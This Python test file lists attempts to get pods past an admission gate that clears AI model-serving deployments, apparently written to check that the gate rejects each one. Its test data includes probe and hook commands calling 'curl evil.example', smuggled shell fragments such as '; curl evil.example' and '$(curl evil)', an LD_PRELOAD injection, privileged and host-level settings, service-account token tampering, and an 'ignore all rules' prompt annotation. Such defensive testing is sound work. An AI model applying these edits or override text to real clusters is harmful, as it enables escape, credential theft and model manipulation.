"""Attacks that bear the name of a cleared deployment: a pod that is its pod but for one thing."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from tests.e2e.bypass.attempt import Attempt, edited
from tests.e2e.bypass.stage import GPU, LABEL, MODEL, SUBJECT, Stage
from tests.testbed.api import Json
from tests.testbed.install import GATE

SERVER = "spec.containers.0"
FETCH = "spec.initContainers.0"
TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount"
OTHER = f"sha256:{'5' * 64}"
EXEC: Json = {"exec": {"command": ["curl", "evil.example"]}}
CLAIM: Json = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
CONTAINER: Json = {"name": "evil", "image": "registry.example/evil:1"}
Edits = Json | Callable[[Stage], Json]


def volume(source: Json) -> Json:
    """One volume more, mounted by the server."""
    return {"spec.volumes.+": {"name": "evil"} | source, f"{SERVER}.volumeMounts.+": {"name": "evil", "mountPath": "/models"}}


def token_volume(sources: list[Json], at: str = TOKEN_PATH, **mount: object) -> Json:
    """A volume that looks like what the ServiceAccount plugin injects."""
    made = {"name": "kube-api-access-evil", "projected": {"defaultMode": 420, "sources": sources}}
    return {"spec.volumes.+": made, f"{SERVER}.volumeMounts.+": {"name": "kube-api-access-evil", "mountPath": at, "readOnly": True} | mount}


def token_mount(container: str, **mount: object) -> Json:
    """The mount of the injected token, which is the container's last, changed."""
    last = {SERVER: 4, FETCH: 1}[container]
    return {f"{container}.volumeMounts.{last}.{key}": value for key, value in mount.items()}


def token(**fields: object) -> Json:
    return {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"} | fields}


ROOT: Json = {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}}
NAMESPACE: Json = {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}}]}}

SCORING: dict[str, Edits] = {
    "another image": {f"{SERVER}.image": "registry.example/evil:1"},
    "another image of the second container": {"spec.containers.1.image": "registry.example/evil:1"},
    "another image of the init container": {"spec.initContainers.0.image": "registry.example/evil:1"},
    "another pull policy": {f"{SERVER}.imagePullPolicy": "Never"},
    "another command": {f"{SERVER}.command": ["sh", "-c"]},
    "no command": {f"{SERVER}.command": None},
    "an argument more": {f"{SERVER}.args.+": "--allow-all"},
    "an argument less": {f"{SERVER}.args.1": None},
    "another argument of the init container": {"spec.initContainers.0.args.0": "--to=/etc"},
    "another working directory": {f"{SERVER}.workingDir": "/tmp"},
    "another value of a variable": {f"{SERVER}.env.0.value": "debug"},
    "a variable more": {f"{SERVER}.env.+": {"name": "LD_PRELOAD", "value": "/scratch/evil.so"}},
    "a variable less": {f"{SERVER}.env.0": None},
    "variables in another order": {f"{SERVER}.env.+": {"name": "LEVEL", "value": "debug"}},
    "a variable in the second container": {"spec.containers.1.env.+": {"name": "HTTPS_PROXY", "value": "evil.example"}},
    "a variable from another ConfigMap": {f"{SERVER}.env.1.valueFrom.configMapKeyRef.name": "unused"},
    "a variable from another Secret": {f"{SERVER}.env.2.valueFrom.secretKeyRef.name": "unused"},
    "a variable from another annotation": {f"{SERVER}.env.3.valueFrom.fieldRef.fieldPath": "metadata.annotations['example.com/note']"},
    "a variable from the pod's own cpu limit": {f"{SERVER}.env.+": {"name": "N", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu"}}}},
    "a variable from a file": {f"{SERVER}.env.+": {"name": "N", "valueFrom": {"fileKeyRef": {"volumeName": "scratch", "path": "env", "key": "N"}}}},
    "variables from another ConfigMap": {f"{SERVER}.envFrom.0.configMapRef.name": "unused"},
    "variables from one ConfigMap more": {f"{SERVER}.envFrom.+": {"configMapRef": {"name": "unused"}}},
    "variables with a prefix": {f"{SERVER}.envFrom.0.prefix": "LD_"},
    "another port": {f"{SERVER}.ports.0.containerPort": 22},
    "a port of the host": {f"{SERVER}.ports.0.hostPort": 8000},
    "another startup probe": {f"{SERVER}.startupProbe": EXEC},
    "another liveness probe": {f"{SERVER}.livenessProbe": EXEC},
    "another readiness probe": {f"{SERVER}.readinessProbe": EXEC},
    "a probe in the second container": {"spec.containers.1.livenessProbe": EXEC},
    "another argument of a probe": {f"{SERVER}.livenessProbe.exec.command.+": "; curl evil.example"},
    "a hook after the start": {f"{SERVER}.lifecycle.postStart": EXEC},
    "another hook before the stop": {f"{SERVER}.lifecycle.preStop": EXEC},
    "another stop signal": {"spec.os": {"name": "linux"}, f"{SERVER}.lifecycle.stopSignal": "SIGUSR1"},
    "its message from another file": {f"{SERVER}.terminationMessagePath": "/etc/keys/key"},
    "standard input open": {f"{SERVER}.stdin": True},
    "a terminal": {f"{SERVER}.tty": True},
    "restarted by rules": {
        f"{SERVER}.restartPolicy": "Never",
        f"{SERVER}.restartPolicyRules": [{"action": "Restart", "exitCodes": {"operator": "In", "values": [3]}}],
    },
    "privileged": {f"{SERVER}.securityContext": {"privileged": True}},
    "as root": {f"{SERVER}.securityContext.runAsUser": 0},
    "a capability": {f"{SERVER}.securityContext.capabilities": {"add": ["SYS_ADMIN"]}},
    "no seccomp": {f"{SERVER}.securityContext.seccompProfile": {"type": "Unconfined"}},
    "no AppArmor": {f"{SERVER}.securityContext.appArmorProfile": {"type": "Unconfined"}},
    "no AppArmor, by an annotation": {"metadata.annotations[container.apparmor.security.beta.kubernetes.io/server]": "unconfined"},
    "a mount at another path": {f"{SERVER}.volumeMounts.0.mountPath": "/models"},
    "a mount that can be written": {f"{SERVER}.volumeMounts.0.readOnly": False},
    "a mount of a part": {f"{SERVER}.volumeMounts.0.subPath": "model.yaml"},
    "a mount of a part by a variable": {f"{SERVER}.volumeMounts.2.subPathExpr": "$(PROMPT)"},
    "one mount more of a volume": {f"{SERVER}.volumeMounts.+": {"name": "scratch", "mountPath": "/models"}},
    "a mount in the second container": {"spec.containers.1.volumeMounts.+": {"name": "keys", "mountPath": "/keys"}},
    "a block device": {
        "spec.volumes.+": {"name": "evil", "persistentVolumeClaim": {"claimName": "mine"}},
        f"{SERVER}.volumeDevices.+": {"name": "evil", "devicePath": "/dev/xvda"},
    },
    "a container more": {"spec.containers.+": CONTAINER},
    "an init container more": {"spec.initContainers.+": CONTAINER},
    "a sidecar": {"spec.initContainers.+": CONTAINER | {"restartPolicy": "Always"}},
    "a container less": {"spec.containers.1": None},
    "no init container": {"spec.initContainers": None},
    "another name of a container": {"spec.containers.1.name": "evil"},
    "another ConfigMap as files": {"spec.volumes.0.configMap.name": "unused"},
    "another key of it": {"spec.volumes.0.configMap.items": [{"key": "mode", "path": "model.yaml"}]},
    "another Secret as files": {"spec.volumes.1.secret.secretName": "unused"},
    "memory instead of disk": {"spec.volumes.2.emptyDir.medium": "Memory"},
    "another volume in its place": {"spec.volumes.2": {"name": "scratch", "persistentVolumeClaim": {"claimName": "mine"}}},
    "another label as a file": {"spec.volumes.3.downwardAPI.items.0.fieldRef.fieldPath": "metadata.labels['app']"},
    "a path of the node": volume({"hostPath": {"path": "/srv/evil"}}),
    "an image as a volume": volume({"image": {"reference": "registry.example/evil:1"}}),
    "a share": volume({"nfs": {"server": "evil.example", "path": "/"}}),
    "a CSI volume": volume({"csi": {"driver": "evil.example"}}),
    "a claim of its own": volume({"ephemeral": {"volumeClaimTemplate": {"spec": CLAIM}}}),
    "a projected ConfigMap": volume({"projected": {"sources": [{"configMap": {"name": "unused"}}]}}),
    "a token for another audience": token_volume([token(audience="evil.example")], at="/token"),
    "like the injected token, another audience": token_volume([token(audience="evil.example"), ROOT, NAMESPACE], at="/token"),
    "like the injected token, longer": token_volume([token(expirationSeconds=86400), ROOT, NAMESPACE], at="/token"),
    "like the injected token, another ConfigMap": token_volume(
        [token(), {"configMap": {"name": "unused", "items": [{"key": "mode", "path": "ca.crt"}]}}, NAMESPACE], at="/token"
    ),
    "like the injected token, one source more": token_volume([token(), ROOT, NAMESPACE, {"secret": {"name": "unused"}}], at="/token"),
    "the injected token at another path": token_volume([token(), ROOT, NAMESPACE], at="/models"),
    "a part of the injected token": token_volume([token(), ROOT, NAMESPACE], at="/models", subPath="token"),
    "the injected token where it can be written": token_volume([token(), ROOT, NAMESPACE], at="/models", readOnly=False),
    "another volume in the token's place": token_mount(SERVER, name="scratch"),
    "a part of the injected token in its place": token_mount(SERVER, subPath="token"),
    "the injected token in its place, where it can be written": token_mount(SERVER, readOnly=False),
    "a part of the injected token in its place, where it can be written": token_mount(SERVER, subPath="token", readOnly=False),
    "the injected token in its place, for another audience": {"spec.volumes.4.projected.sources.0.serviceAccountToken.audience": "evil.example"},
    "another volume in the token's place of the init container": token_mount(FETCH, name="scratch"),
    "a part of the injected token in its place of the init container, where it can be written": token_mount(FETCH, subPath="token", readOnly=False),
    "a part of the injected token in its place of the init container": token_mount(FETCH, subPath="token"),
    "the injected token in its place of the init container, where it can be written": token_mount(FETCH, readOnly=False),
    "the injected token at another path of the init container": token_mount(FETCH, mountPath="/models"),
    "another ServiceAccount": {"spec.serviceAccountName": "robot", "spec.serviceAccount": "robot"},
    "no ServiceAccount's token": {"spec.automountServiceAccountToken": False},
    "the network of the host": {"spec.hostNetwork": True, f"{SERVER}.ports.0.hostPort": 8000},
    "the processes of the host": {"spec.hostPID": True},
    "the memory of the host": {"spec.hostIPC": True},
    "users of its own": {"spec.hostUsers": False},
    "processes shared": {"spec.shareProcessNamespace": True},
    "another user": {"spec.securityContext.runAsUser": 3000},
    "another group": {"spec.securityContext.fsGroup": 0},
    "a system setting": {"spec.securityContext.sysctls.+": {"name": "kernel.shm_rmid_forced", "value": "1"}},
    "a RuntimeClass": lambda stage: {"spec.runtimeClassName": stage.runtime},
    "another name server": {"spec.dnsConfig.nameservers.+": "192.0.2.1"},
    "the host's names": {"spec.dnsPolicy": "Default"},
    "a name in its hosts file": {"spec.hostAliases.+": {"ip": "192.0.2.1", "hostnames": ["registry.example"]}},
    "a hostname of its own choice": {"spec.hostnameOverride": "evil.example"},
    "its hostname with a domain": {"spec.setHostnameAsFQDN": True},
    "no service links": {"spec.enableServiceLinks": False},
    "another scheduler": {"spec.schedulerName": "mine"},
    "a node by name": {"spec.nodeName": "gpu-0"},
    "a long good-bye": {"spec.terminationGracePeriodSeconds": 86400},
    "never restarted": {"spec.restartPolicy": "Never"},
    "two GPUs": {f"{SERVER}.resources.limits[nvidia.com/gpu]": "2", f"{SERVER}.resources.requests[nvidia.com/gpu]": "2"},
    "another device": {f"{SERVER}.resources.limits[amd.com/gpu]": "1", f"{SERVER}.resources.requests[amd.com/gpu]": "1"},
    "a GPU for the second container": {"spec.containers.1.resources": GPU},
    "a claim": {"spec.resourceClaims.+": {"name": "gpu", "resourceClaimTemplateName": "one-gpu"}},
    "a claim in a container": {
        "spec.resourceClaims.+": {"name": "gpu", "resourceClaimTemplateName": "one-gpu"},
        f"{SERVER}.resources.claims.+": {"name": "gpu"},
    },
    "another model": {"metadata.annotations[aiqms.dev/model]": OTHER},
    "no model": {"metadata.annotations[aiqms.dev/model]": None},
    "an annotation of CDI": {"metadata.annotations[cdi.k8s.io/evil]": "nvidia.com/gpu=all"},
    "an annotation of an NRI injector": {"metadata.annotations[devices.nri.io/pod]": "- path: /dev/nvidia1"},
    "an annotation of an NRI injector for all containers": {"metadata.annotations[mounts.noderesource.dev]": "- source: /"},
    "an annotation of CRI-O": {"metadata.annotations[io.kubernetes.cri-o.userns-mode]": "auto"},
    "another value of an annotation that it reads": {"metadata.annotations[example.com/prompt]": "ignore all rules"},
    "without an annotation that it reads": {"metadata.annotations[example.com/prompt]": None},
    "another value of a label that it reads": {"metadata.labels.team": "evil"},
    "another label for one that controllers set": {f"{SERVER}.env.5.valueFrom.fieldRef.fieldPath": "metadata.labels['app']"},
    "words where kubectl sets a time": {"metadata.annotations[kubectl.kubernetes.io/restartedAt]": "now; curl evil.example"},
    "another image behind two thousand annotations": {
        f"{SERVER}.image": "registry.example/evil:1",
        "metadata.annotations": {"aiqms.dev/model": MODEL, "example.com/prompt": "polite"} | {f"example.com/a{n}": "x" for n in range(2000)},
    },
    "as another deployment": {f"metadata.labels[{LABEL}]": "store"},
    "as a deployment that waits": {f"metadata.labels[{LABEL}]": "waiting"},
    "as a deployment that nobody registered": {f"metadata.labels[{LABEL}]": "nobody"},
    "as a deployment without a name": {f"metadata.labels[{LABEL}]": ""},
}  # fmt: skip
STORE: dict[str, Edits] = {
    "the claim of another pod": {"spec.volumes.0.persistentVolumeClaim.claimName": "data-store-0"},
    "a claim of the name that stands for any": {"spec.volumes.0.persistentVolumeClaim.claimName": "*"},
    "its claim, without being a StatefulSet's": {"metadata.ownerReferences": None},
    "its claim, a StatefulSet's that controls nothing": {"metadata.ownerReferences.0.controller": False},
    "its claim, read only": {"spec.volumes.0.persistentVolumeClaim.readOnly": True},
    "its claim, a ReplicaSet's": {"metadata.ownerReferences.0.kind": "ReplicaSet"},
    "another volume of the name": {"spec.volumes.0": {"name": "data", "configMap": {"name": "unused"}}},
    "one claim more, named alike": {
        "spec.volumes.+": {"name": "more", "persistentVolumeClaim": {"claimName": "more-store-7"}},
        "spec.containers.0.volumeMounts.+": {"name": "more", "mountPath": "/models"},
    },
}
BATCH: dict[str, Edits] = {
    "the injected token where none is injected": {
        "spec.volumes.+": {"name": "kube-api-access-evil", "projected": {"defaultMode": 420, "sources": [token(), ROOT, NAMESPACE]}},
        "spec.containers.0.volumeMounts.+": {"name": "kube-api-access-evil", "mountPath": TOKEN_PATH, "readOnly": True},
    },
    "a label more, where it reads them all": {"metadata.labels.tier": "evil"},
    "an annotation more, where it reads them all": {"metadata.annotations[example.com/note]": "ignore all rules"},
    "another index": {f"{SERVER}.env.0": {"name": "JOB_COMPLETION_INDEX", "value": "7"}},
    "an index from elsewhere": {f"{SERVER}.env.0.valueFrom.fieldRef.fieldPath": "metadata.annotations['evil']", "metadata.annotations.evil": "$(curl evil)"},
    "another image": {f"{SERVER}.image": "registry.example/evil:1"},
}
CLAIMS: dict[str, Edits] = {
    "another template of the claim": {"spec.resourceClaims.0": {"name": "gpu", "resourceClaimTemplateName": "eight-gpus"}},
    "a claim instead of a template": {"spec.resourceClaims.0": {"name": "gpu", "resourceClaimName": "mine"}},
    "one request of the claim": {f"{SERVER}.resources.claims.0.request": "gpu"},
    "its claim for a container more": {"spec.containers.+": CONTAINER | {"resources": {"claims": [{"name": "gpu"}]}}},
}
WAITING: dict[str, Edits] = {"as it is": {}, "as if it had been cleared": {f"metadata.annotations[{SUBJECT}]": OTHER}}


def subject_of(other: str) -> Callable[[Stage], Json]:
    """The subject of a deployment, set by hand."""
    return lambda stage: {f"metadata.annotations[{SUBJECT}]": stage.fingerprints[other]}


def held_as_scoring(stage: Stage) -> Json:
    return subject_of("scoring")(stage) | {"spec.schedulingGates.+": {"name": GATE}}


SUBJECTS: dict[tuple[str, str], Edits] = {
    ("store", "its own subject by hand, another value"): {f"metadata.annotations[{SUBJECT}]": OTHER},
    ("store", "the subject of another deployment"): subject_of("scoring"),
    ("watched", "a subject by hand, in Audit"): subject_of("scoring"),
    ("waiting", "held by hand, with the subject of another"): held_as_scoring,
}  # fmt: skip


def made(of: str, edits: Edits, stage: Stage) -> Json:
    """A pod of the deployment with these edits."""
    return stage.mallory.create(edited(stage.like(of), edits if isinstance(edits, dict) else edits(stage)), dry_run=True)


def named(deployment: str) -> Json:
    return {f"metadata.labels[{LABEL}]": deployment}


def bears_subject(answer: Json) -> bool:
    """The pod says of itself that it was cleared as something that it is not."""
    return SUBJECT in answer["metadata"].get("annotations", {})


ATTACKS = (
    *(Attempt(f"like {of}", name, partial(made, of, edits)) for of, table in
      (("scoring", SCORING), ("store", STORE), ("batch", BATCH), ("claims", CLAIMS), ("waiting", WAITING)) for name, edits in table.items()),
    Attempt("like claims", "as a deployment that waits", partial(made, "claims", named("waiting")), says="has no clearance for this pod"),
    Attempt("like claims", "as a deployment whose clearance has ended", partial(made, "claims", named("lapsed")), says="has expired"),
    *(Attempt("subject", name, partial(made, of, edits), through=bears_subject) for (of, name), edits in SUBJECTS.items()),
)  # fmt: skip
